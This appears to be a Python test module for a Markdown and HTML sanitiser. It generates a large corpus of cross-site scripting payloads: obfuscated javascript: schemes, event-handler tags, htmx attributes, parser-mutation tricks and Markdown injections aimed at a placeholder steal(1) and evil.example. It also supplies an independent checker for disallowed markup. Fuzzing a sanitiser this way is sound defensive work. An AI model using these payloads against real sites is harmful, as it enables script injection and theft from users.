"""Bodies that try to bring a script, a form or a request into a page.

Built by combining: every way of writing a scheme with every place an address can
stand, every handler with many tags, and so on. `dangers` is an examiner of its own,
which shares neither parser nor lists with the code that it examines.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from itertools import product

HOST = "evil.example"
CALL = "steal(1)"

# An address that a browser may run, written so that a filter may not see it.
SCRIPT_ADDRESSES = [
    f"{scheme}{CALL}"
    for scheme in (
        "javascript:",
        "JavaScript:",
        "jAvAsCrIpT:",
        " javascript:",
        "\tjavascript:",
        "\x01javascript:",
        "\x1fjavascript:",
        "\u00a0javascript:",
        "\u200bjavascript:",
        "\ufeffjavascript:",
        "java\tscript:",
        "java\nscript:",
        "java\rscript:",
        "java\x00script:",
        "java\u00adscript:",
        "javascript\t:",
        "javascript :",
        "javascript\\:",
        "java\\script:",
        "javascript&colon;",
        "javascript&#58;",
        "javascript&#x3a;",
        "javascript&#x0000003A;",
        "&#106;avascript:",
        "&#x6A;avascript:",
        "&#0000106avascript:",
        "java&Tab;script:",
        "java&NewLine;script:",
        "java&#13;script:",
        "&#1;javascript:",
        "&amp;#106;avascript:",
        "%6aavascript:",
        "javascript%3a",
        "javascript://harbour.example/%0a",
        "javascript:/*https://harbour.example*/",
        "\uff4aavascript:",
        "javas\u0441ript:",
        "ja\u017fvascript:",
        "\u202ejavascript:",
        "feed:javascript:",
        "view-source:javascript:",
        "jar:javascript:",
        "vbscript:",
        "VBScript:",
        "livescript:",
        "mocha:",
        "https:javascript:",
        "//javascript:",
        "/\\javascript:",
    )
] + [
    "javascript:4`\u00e9`2",
    "javascript:1",
    "javascript:",
    "data:text/html,<b>gone</b>",
    "data:text/html;base64,PGI+Z29uZTwvYj4=",
    "data:image/svg+xml,<svg/>",
    "DATA:text/html;charset=utf-7,x",
    "blob:https://evil.example/1",
    "filesystem:https://evil.example/1",
    "file:///etc/hosts",
    "about:blank",
    "ms-settings:network",
    "intent://evil.example#Intent;end",
    "tel:+100",
    "ftp://evil.example/x",
    "//evil.example/x",
    "///evil.example/x",
    "\\\\evil.example\\x",
    "/\\evil.example/x",
    "https:/\\evil.example",
    "https:\\\\evil.example",
    "http:evil.example",
    "https:///evil.example",
    "https://",
    "https://?x",
    "#entry-1",
    "?after=1",
    "/admin/logout/",
]
ADDRESS_PLACES = [
    "[words]({})",
    "[words](<{}>)",
    '[words]({} "title")',
    "[words](  {}  )",
    "[words]({}",
    "![words]({})",
    "[![words]({})]({})",
    "[words][1]\n\n[1]: {}",
    "[words]\n\n[words]: <{}>",
    "<{}>",
    "{}",
    "See {} there",
    "![](image:{})",
    "![](media:{})",
    "**[words]({})**",
    "> [words]({})",
    "- [words]({})",
    "| a | b |\n|---|---|\n| [words]({}) | {} |",
    "# [words]({})",
    "`[words]({})`",
    '<a href="{}">words</a>',
    "<a href='{}'>words</a>",
    "<a href={}>words</a>",
    "<a\thref\n=\n`{}`>words</a>",
    '<A HREF="{}" href="https://harbour.example">words</A>',
    '<img src="{}">',
    '<img srcset="{} 2x" sizes="100vw">',
    '<iframe src="{}"></iframe>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<form action="{}"><button formaction="{}">words</button></form>',
    '<base href="{}">',
    '<link rel="stylesheet" href="{}">',
    '<meta http-equiv="refresh" content="0;url={}">',
    '<svg><a xlink:href="{}"><text>words</text></a></svg>',
    '<math href="{}">words</math>',
    '<blockquote cite="{}">words</blockquote>',
    '<video poster="{}"><source src="{}"></video>',
    '<td background="{}">words</td>',
    '<p style="background:url({})">words</p>',
]

HANDLERS = [
    *("onclick", "onload", "onerror", "onfocus", "onmouseover", "ontoggle"),
    *("onanimationstart", "onbeforetoggle", "onpointerenter", "onwheel", "OnCliCk"),
    *("onbegin", "onscrollend", "oncontentvisibilityautostatechange"),
]
HANDLED_TAGS = [
    *("p", "br", "a", "em", "strong", "blockquote", "ul", "ol", "li", "h3", "h4"),
    *("code", "pre", "hr", "table", "th", "td", "img", "svg", "video", "details"),
    *("body", "input autofocus", "button popover", "x-thing", "marquee", "dialog"),
]
HANDLER_SHAPES = [
    '<{tag} {handler}="{call}">',
    "<{tag} {handler}={call}>",
    "<{tag}/{handler}='{call}'/x>",
    '<{tag} title="a"{handler}="{call}">',
    "<{tag}\n{handler}\n=\n{call}\n>",
    "<{tag} {handler}={call}",
]

# What htmx, forms and pages of ours would obey.
ATTRIBUTES = [
    *('id="updates"', 'id=entry-1 hx-swap-oob="true"', 'class="key-event"'),
    *('style="position:fixed;inset:0"', 'hx-get="/admin/"', 'hx-post="/admin/"'),
    *('data-hx-get="/admin/"', 'hx-on:click="steal(1)"', 'hx-on--load="steal(1)"'),
    *('hx-trigger="load" hx-delete="/"', 'hx-vals="js:{a:steal(1)}"', "hx-boost"),
    *('sse-connect="/x"', 'hx-sse:connect="/x"', 'hx-ext="sse"', 'data-x="1"'),
    *('name="csrfmiddlewaretoken"', 'form="composer"', 'slot="x"', 'is="x-thing"'),
    *('srcset="https://evil.example/x 2x"', 'ping="https://evil.example"'),
    *('target="_top"', 'rel="opener"', 'download="x"', 'contenteditable="true"'),
    *('tabindex="1"', 'accesskey="s"', 'autofocus="1"', 'nonce="x"', 'dir="rtl"'),
    *('aria-live="assertive"', 'role="alert"', 'hidden="hidden"', 'itemprop="x"'),
    *('align="center;x"', "align=justify", 'bgcolor="red"', 'width="9999"'),
]
ATTRIBUTE_TAGS = [
    *("p", "a", 'a href="https://harbour.example/"', "em", "li", "h3", "td", "th"),
    *("table", "div", "section", "button", "img", "template", "code", "pre"),
]

# Markup that one parser reads as text and another as a tag, or that comes to life
# when it is read, written out and read again.
MUTATIONS = [
    f"<{left}>{middle}<img src=x onerror={CALL}>{right}"
    for left, middle, right in [
        ("noscript", '<p title="</noscript>', '">'),
        ("style", "<!--</style>", "-->"),
        ("math", "<mtext><table><mglyph><style>", "</style></table>"),
        ("math", "<annotation-xml encoding='text/html'>", "</math>"),
        ("svg", "<style><!--</style>", "</svg>"),
        ("svg", "<foreignObject><p>", "</svg>"),
        ("svg", "</p><style><g title='</style>", "'>"),
        ("form", "<math><mtext></form><form><mglyph><style></math>", "</form>"),
        ("table", "<tr><style><!--</style></table>", "-->"),
        ("select", "<option><iframe></select>", "</iframe>"),
        ("textarea", "</textarea ", ">"),
        ("title", "</title/", ">"),
        ("xmp", "</xmp foo>", "</xmp>"),
        ("plaintext", "", ""),
        ("listing", "&lt;", "</listing>"),
        ("iframe", "</iframe>", ""),
        ("noembed", "</noembed>", ""),
        ("template", "<template>", "</template>"),
        ("a", "<table><a>", "</table></a>"),
        ("p", "<table><p></table>", "</p>"),
        ("![CDATA[", "]]>", ""),
        ("!--", "--!>", "-->"),
        ("!-", "->", ""),
        ("?xml ", "?>", ""),
        ("!doctype ", ">", ""),
        ("%", "%>", ""),
        ("/", ">", ""),
        ("<", "><", ">>"),
        ("b <i", "<<", "</i</b"),
        ("script", "</script><script x", "</script"),
        ("script/x", "<!--<script>", "</script>--></script>"),
        ("p ", "/".join("<" * 9), ">"),
    ]
]

# Markdown that is meant to be read in two ways.
TRICKS = [
    '[words](https://harbour.example" onclick="steal(1))',
    "[words](https://harbour.example' onclick='steal(1))",
    "[words](https://harbour.example><script>steal(1)</script>)",
    "[words](https://harbour.example \"title\" onclick='steal(1)')",
    '[words](https://harbour.example "a" onmouseover=steal(1) "b")',
    '[words](https://harbour.example "\\" onclick=steal(1) x=\\"")',
    "[words](https://harbour.example 'a\"onclick=steal(1) b=\"')",
    '[<img src=x onerror=steal(1)>](https://harbour.example "<script>")',
    "[words](https://harbour.example){: onclick=steal(1) }",
    "# words {: onclick=steal(1) #updates .key-event }",
    "``` {.key-event onclick=steal(1) #updates}\ncode\n```",
    '```html"><script>steal(1)</script>\ncode\n```',
    "```\n</code></pre><script>steal(1)</script>\n```",
    "`</code><script>steal(1)</script>`",
    "**<script>steal(1)**</script>",
    "*<img src=x onerror=steal(1)*>",
    "<a href=`**javascript:steal(1)**`>words</a>",
    "[a](https://harbour.example/[b](javascript:steal(1)))",
    "[a [b](javascript:steal(1)) c](https://harbour.example)",
    "https://harbour.example/<script>steal(1)</script>",
    'https://harbour.example/"onmouseover="steal(1)',
    "https://harbour.example/'onmouseover='steal(1)",
    "https://harbour.example/&quot;onmouseover=&quot;steal(1)",
    "https://harbour.example@evil.example/x.com/a/status/1",
    "https://x.com\\@evil.example/a/status/1",
    "https://evil.example\\@x.com/a/status/1",
    "<https://harbour.example/><script>steal(1)</script>",
    "<steal@evil.example onclick=steal(1)>",
    '<steal@evil.example"onclick="steal(1)>',
    "| a |\n|---|\n| <script>steal(1)</script> |",
    "|<script>|a|\n|:-:|--:|\n|steal(1)|</script>|",
    "> <script>\n> steal(1)\n> </script>",
    "- <script>\n- steal(1)\n- </script>",
    "1. <svg>\n2. <script>steal(1)\n\n    </script>",
    "    <script>steal(1)</script>",
    "<div markdown=1>\n**<script>steal(1)</script>**\n</div>",
    "<script>\n\nsteal(1)\n\n</script>",
    "</p></div></article><script>steal(1)</script>",
    "</li></ul></section><form action=https://evil.example>",
    "<!-- [words](x) --><script>steal(1)</script>",
    "&lt;script&gt;steal(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;steal(1)",
    "&#60;script&#62;steal(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=steal(1)&#x3e",
    "\\<script\\>steal(1)\\</script\\>",
    "\\\\<script>steal(1)</script>",
    "<scr\x00ipt>steal(1)</scr\x00ipt>",
    "<\x00script>steal(1)</script>",
    "<scr\u200bipt>steal(1)</script>",
    "\uff1cscript\uff1esteal(1)\uff1c/script\uff1e",
    "\u2039script\u203asteal(1)",
    "+ADw-script+AD4-steal(1)",
    "<\u0130mg src=x onerror=steal(1)>",
    "<\u017fcript>steal(1)</\u017fcript>",
    "\x02klzzwxh:0000\x03<script>steal(1)</script>",
    "\x02wzxhzdk:0\x03 \x0260\x03script\x0262\x03steal(1)",
    "\x02amp\x03lt;script\x02amp\x03gt;",
    "\x040\n\n```\n<script>steal(1)</script>\n```",
    "\x05<script>\x05steal(1)",
    "\ud800<script>steal(1)</script>",
    '![](image:x" onerror=steal(1) y=")\n![](image:<script>)',
    "![<script>steal(1)</script>](image:fog)",
    "![<script>steal(1)</script>](media:fog)",
    "<p>0123456789abcdef0123456789abcdef0</p>",
    "{{ request }}{% load static %}<script>steal(1)</script>",
    "a\rdata: <script>steal(1)</script>\rb",
]


def families() -> dict[str, list[str]]:
    """Return all attacks, by what they try."""
    return {
        "addresses": [
            place.replace("{}", address)
            for place, address in product(ADDRESS_PLACES, SCRIPT_ADDRESSES)
        ],
        "handlers": [
            shape.format(tag=tag, handler=handler, call=CALL)
            for shape, tag, handler in product(HANDLER_SHAPES, HANDLED_TAGS, HANDLERS)
        ],
        "attributes": [
            f"<{tag} {attribute}>words</{tag.split()[0]}>"
            for tag, attribute in product(ATTRIBUTE_TAGS, ATTRIBUTES)
        ],
        "mutations": [
            place.replace("{}", attack)
            for place, attack in product(
                (
                    "{}",
                    "> {}",
                    "- {}",
                    "`{}",
                    "**{}**",
                    "[{}](https://harbour.example)",
                ),
                MUTATIONS,
            )
        ],
        "tricks": TRICKS,
    }


_ATTRIBUTES = {
    "a": {"href", "rel", "title"},
    "td": {"align"},
    "th": {"align", "scope"},
}
_BOX = {"class": "table", "role": "group", "tabindex": "0"}  # of a table
_TAGS = {
    *("p", "br", "a", "em", "strong", "del", "code", "pre", "blockquote", "h3", "h4"),
    *("ul", "ol", "li", "hr", "table", "thead", "tbody", "tr", "th", "td"),
}
_GOOD_ADDRESS = re.compile(r"(https?://[a-z0-9]|mailto:)[^\x00-\x20\\]*", re.I)


class _Examiner(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in {"br", "hr"}:
            self.open.append(tag)
        if tag == "div" and {**dict(attrs), "aria-label": ""} == {
            **_BOX,
            "aria-label": "",
        }:
            return
        if tag not in _TAGS:
            self.found.append(f"tag {tag}")
        for name, value in attrs:
            if name not in _ATTRIBUTES.get(tag, ()):
                self.found.append(f"attribute {name} of {tag}")
            if name == "href" and not _GOOD_ADDRESS.fullmatch(value or ""):
                self.found.append(f"address {value!r}")
            if name == "align" and value not in {"left", "right", "center"}:
                self.found.append(f"alignment {value!r}")
            if name == "scope" and value not in {"col", "row"}:
                self.found.append(f"scope {value!r}")

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.found.append(f"end of {tag} out of place")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"comment {data!r}")

    handle_decl = handle_pi = unknown_decl = handle_comment


def dangers(markup: str) -> list[str]:
    """Return what a page must not show from an author: empty where all is well."""
    examiner = _Examiner()
    examiner.feed(markup)
    examiner.close()
    if re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff]", markup):
        examiner.found.append("control character")
    return examiner.found + [f"{tag} left open" for tag in examiner.open]
